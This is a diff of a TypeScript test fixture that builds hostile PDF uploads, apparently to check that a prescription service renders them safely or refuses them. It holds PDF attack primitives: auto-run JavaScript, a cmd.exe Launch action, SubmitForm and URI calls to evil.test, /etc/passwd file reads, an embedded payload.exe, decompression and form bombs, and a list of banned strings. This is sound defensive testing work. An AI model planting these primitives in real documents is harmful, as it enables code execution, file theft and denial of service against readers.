@@ -1,128 +1,102 @@
 import { deflateSync } from 'node:zlib'
-import { page } from '../prescription.ts'
+import { buildPdf, formBombPdf, lockedPdf, pdf, streamOf, written } from '../pdf.ts'
 import { bytesOf, type Hostile, one, php, script, sentences } from './hostile.ts'
 
-const { locked, program, unchecked, pages } = sentences
+const { locked, unreadable, tooHeavy, pages } = sentences
 
-/** A PDF of these objects, bytes as they are. */
-const pdf = (...objects: string[]) => bytesOf(`%PDF-1.7\n${objects.join('\n')}\n%%EOF\n`)
-
-const stream = (content: string | Uint8Array, dictionary: string) =>
-  `9 0 obj << ${dictionary} >>\nstream\n${Buffer.from(content).toString('latin1')}\nendstream endobj`
-/** Packed objects (ISO 32000-1, 7.5.7), where a search of the file does not see them. */
-const packed = (content: string | Uint8Array, dictionary = '/Type /ObjStm /Filter /FlateDecode') =>
-  stream(deflateSync(content), dictionary)
+const letter = [written('Augmentin 625 mg')]
+const withCatalog = (catalog: string, ...objects: (string | Uint8Array)[]) =>
+  buildPdf({ pages: letter, catalog, objects })
 
 const zip = bytesOf('PK\x03\x04\x14\x00', '\x00'.repeat(24), 'payload.exe')
 const zipEnd = bytesOf('PK\x01\x02', '\x00'.repeat(42), 'PK\x05\x06', '\x00'.repeat(18))
-const nothing = () => Buffer.alloc(100 * 1024 * 1024)
-/** Of which nobody reads the end. */
-const comments = () => Buffer.concat([Buffer.from(`${'%\n\n'.repeat(60)}x`), Buffer.alloc(3 * 1024 * 1024)])
-const catalogue = (more: string) => `1 0 obj << /Type /Catalog /Pages 2 0 R ${more} >> endobj`
+/** 100 MB of drawing operators in 100 kB. */
+const packedDrawing = () =>
+  streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(100 * 1024 * 1024, '0 0 9 9 re f\n')))
 
-/** What a good page is sent with, or instead. */
-const files: Record<string, [bytes: () => Uint8Array, refused: readonly [number, string]]> = {
-  'a locked PDF': [() => pdf(page, 'trailer << /Encrypt 5 0 R >>'), locked],
-  'a lock with an escaped name': [() => pdf(page, 'trailer << /Encr#79pt 5 0 R >>'), locked],
-  'a script': [() => pdf(page, '4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), program],
-  'a script with an escaped name': [
-    () => pdf(page, '4 0 obj << /S /J#61vaScript /JS (1) >> endobj'),
-    program,
-  ],
-  'a script among the names': [() => pdf(page, catalogue('/Names << /JavaScript 7 0 R >>')), program],
-  'a script in packed objects': [() => pdf(page, packed('4 0 << /S /JavaScript /JS (1) >>')), program],
-  'an escaped script in escaped packed objects': [
-    () => pdf(page, packed('4 0 << /S /Java#53cript >>', '/Type /Obj#53tm /Filter /FlateDecode')),
-    program,
-  ],
-  'a program to start': [() => pdf(page, '4 0 obj << /S /Launch /F (cmd.exe) >> endobj'), program],
-  'a program to start when it opens': [
-    () => pdf(page, catalogue('/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>')),
-    program,
-  ],
-  'a web page to open when it opens': [
-    () => pdf(page, catalogue('/OpenAction << /Type /Action /S /URI /URI (https://a.test) >>')),
-    program,
-  ],
-  'a web page to open when it opens, further on': [
-    () => pdf(page, catalogue('/OpenAction 7 0 R'), '7 0 obj << /S /URI /URI (https://a.test) >> endobj'),
-    program,
-  ],
-  'a web page to open when it opens, far on in what is named': [
-    () =>
-      pdf(
-        page,
-        catalogue('/OpenAction 7 0 R'),
-        `7 0 obj << ${' '.repeat(5000)} /S /URI /URI (https://a.test) >> endobj`,
-      ),
-    program,
-  ],
-  'a web page to open when it opens, packed behind an empty object of its number': [
-    () =>
-      pdf(
-        page,
-        catalogue('/OpenAction 7 0 R'),
-        '7 0 obj << >> endobj',
-        packed('7 0 << /S /URI /URI (https://a.test) >>'),
-      ),
-    program,
-  ],
-  'something to do when a page opens': [
-    () => pdf('3 0 obj << /Type /Page /AA << /O << /S /URI /URI (https://a.test) >> >> >> endobj'),
-    program,
-  ],
-  'another PDF to go to': [
-    () => pdf(page, '4 0 obj << /S /GoToR /F (\\\\\\\\a.test\\\\x.pdf) >> endobj'),
-    program,
-  ],
-  'a PDF inside to go to': [() => pdf(page, '4 0 obj << /S /GoToE /T << /R /C >> >> endobj'), program],
-  'a file inside': [() => pdf(page, '4 0 obj << /Type /EmbeddedFile >> endobj'), program],
-  'files among the names': [() => pdf(page, catalogue('/Names << /EmbeddedFiles 7 0 R >>')), program],
-  'a form that sends itself': [
-    () => pdf(page, '4 0 obj << /S /SubmitForm /F (https://a.test) >> endobj'),
-    program,
-  ],
-  'a form that reads a file': [
-    () => pdf(page, '4 0 obj << /S /ImportData /F (/etc/passwd) >> endobj'),
-    program,
-  ],
-  'a form of XML': [() => pdf(page, catalogue('/AcroForm << /XFA 7 0 R >>')), program],
-  'a film that runs': [() => pdf(page, '4 0 obj << /Subtype /RichMedia >> endobj'), program],
-  'a folder of files': [() => pdf(page, catalogue('/Collection << /View /D >>')), program],
-  'PHP in a comment': [() => pdf(page, `% ${php}`), program],
-  'a web page in a comment': [() => pdf(`% ${script}`, page), program],
-  'a zip before its end': [() => pdf(page, bytesOf(zip, zipEnd).toString()), program],
-  'a zip behind it': [() => bytesOf(pdf(page), zip, zipEnd), program],
-  'a web page behind it': [() => bytesOf(pdf(page), script), program],
-  'something nobody knows behind it': [() => bytesOf(pdf(page), '0123456789'.repeat(10)), unchecked],
-  'packed objects that are broken': [
-    () => pdf(page, stream('nothing', '/Type /ObjStm /Filter /FlateDecode')),
-    unchecked,
-  ],
-  'objects packed in another way': [
-    () => pdf(page, packed(page, '/Type /ObjStm /Filter [ /ASCII85Decode /FlateDecode ]')),
-    unchecked,
-  ],
-  'packed objects of 100 MB': [() => pdf(page, packed(nothing())), unchecked],
-  'a page that unpacks to 400 MB': [
-    () => pdf(page, ...Array.from({ length: 4 }, () => packed(nothing(), '/Filter /FlateDecode'))),
-    unchecked,
-  ],
-  'comments that a careless pattern would read in 2^60 ways': [
-    () => pdf(page, packed(comments(), '/Filter /FlateDecode'), packed(nothing())),
-    unchecked,
-  ],
-  'a page packed twice': [
-    () => pdf(page, packed(deflateSync(nothing()), '/Filter [ /FlateDecode /FlateDecode ]')),
-    unchecked,
-  ],
-  'no page in it': [() => pdf('1 0 obj << /Type /Catalog >> endobj'), unchecked],
-  '21 pages': [() => pdf(page.repeat(21)), pages],
-  '5,000 packed pages': [() => pdf(packed(page.repeat(5000))), pages],
+/** Each PDF is rendered; its page shows the letter, and nothing else of it is kept. */
+const harmless: Record<string, () => Uint8Array> = {
+  'a script to run when it opens': () => withCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
+  'a script that never ends': () => withCatalog('/OpenAction << /S /JavaScript /JS (while (true) {}) >>'),
+  'a script among the names': () =>
+    withCatalog(
+      '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
+      '<< /S /JavaScript /JS (app.alert(1)) >>',
+    ),
+  'a program to start when it opens': () =>
+    withCatalog('/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'),
+  'a web page to open when it opens': () => withCatalog('/OpenAction << /S /URI /URI (https://evil.test) >>'),
+  'something to do when a page opens': () =>
+    buildPdf({ pages: letter, page: '/AA << /O << /S /URI /URI (https://evil.test) >> >>' }),
+  'another PDF to go to': () => withCatalog('/OpenAction << /S /GoToR /F (\\\\\\\\evil.test\\\\x.pdf) >>'),
+  'an image that lies in a file of the server': () =>
+    buildPdf({
+      pages: [`${letter[0]} /X Do`],
+      objects: [
+        streamOf(
+          '/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (/etc/passwd)',
+          '',
+        ),
+      ],
+    }),
+  'a file inside': () =>
+    withCatalog(
+      '/Names << /EmbeddedFiles << /Names [(payload.exe) 4 0 R] >> >>',
+      '<< /Type /Filespec /F (payload.exe) /EF << /F 5 0 R >> >>',
+      streamOf('/Type /EmbeddedFile', 'MZ'),
+    ),
+  'a form that sends itself': () =>
+    withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.test) >> /AcroForm << /Fields [] >>'),
+  'a form that reads a file': () => withCatalog('/OpenAction << /S /ImportData /F (/etc/passwd) >>'),
+  'a form of XML': () => withCatalog('/AcroForm << /XFA 4 0 R >>', streamOf('', '<xdp>evil</xdp>')),
+  'a film that runs': () =>
+    buildPdf({
+      pages: letter,
+      page: '/Annots [4 0 R]',
+      objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>'],
+    }),
+  'PHP in a comment': () => bytesOf(pdf(...letter), `% ${php}\n`),
+  'a web page behind it': () => bytesOf(pdf(...letter), script),
+  'a zip behind it': () => bytesOf(pdf(...letter), zip, zipEnd),
+  'a page as wide as a town': () => buildPdf({ pages: letter, size: [5_000_000, 5_000_000] }),
+  'a page as thin as a thread': () => buildPdf({ pages: letter, size: [0.001, 5_000_000] }),
+  'two thousand million pages, by its own account': () =>
+    buildPdf({ pages: letter, tree: '/Kids [4 0 R] /Count 2000000000' }),
 }
 
-export const pdfs: Hostile[] = Object.entries(files).map(([name, [bytes, refused]]) => ({
-  name: name.startsWith('a lock') ? name : `a PDF with ${name}`,
-  parts: () => one(bytes(), 'page.pdf', 'application/pdf'),
-  refused,
-}))
+/** Each PDF is refused, with this sentence. */
+const files: Record<string, [bytes: () => Uint8Array, refused: readonly [number, string]]> = {
+  'a password': [() => lockedPdf(), locked],
+  'a lock of another kind': [
+    () => buildPdf({ pages: letter, trailer: '/Encrypt << /Filter /Acme /V 9 >>' }),
+    locked,
+  ],
+  'no page in it': [() => pdf(), unreadable],
+  'no catalogue': [() => bytesOf('%PDF-1.7\n3 0 obj << /Type /Page >> endobj\n%%EOF\n'), unreadable],
+  'nothing but its first line': [() => bytesOf('%PDF-1.7\n'), unreadable],
+  'a page tree that is its own child': [
+    () => buildPdf({ pages: letter, tree: '/Kids [2 0 R] /Count 1' }),
+    unreadable,
+  ],
+  'more pages than it has': [() => buildPdf({ pages: letter, tree: '/Kids [4 0 R] /Count 9' }), unreadable],
+  '21 pages': [() => pdf(...Array<string>(21).fill('')), pages],
+  '5,000 pages': [() => pdf(...Array<string>(5000).fill('')), pages],
+  '100 MB of drawing in its page': [
+    () => buildPdf({ pages: letter, page: '/Contents 4 0 R', objects: [packedDrawing()] }),
+    tooHeavy,
+  ],
+  'forms that draw each other 10^9 times': [() => formBombPdf(), tooHeavy],
+}
+
+export const pdfs: Hostile[] = [
+  ...Object.entries(harmless).map(([name, bytes]) => ({
+    name: `a PDF with ${name}`,
+    parts: () => one(bytes(), 'page.pdf', 'application/pdf'),
+    without: ['%PDF', 'evil', 'JavaScript', 'passwd', 'payload', '<?php', '<script', 'cmd.exe'],
+  })),
+  ...Object.entries(files).map(([name, [bytes, refused]]) => ({
+    name: `a PDF with ${name}`,
+    parts: () => one(bytes(), 'page.pdf', 'application/pdf'),
+    refused,
+  })),
+]
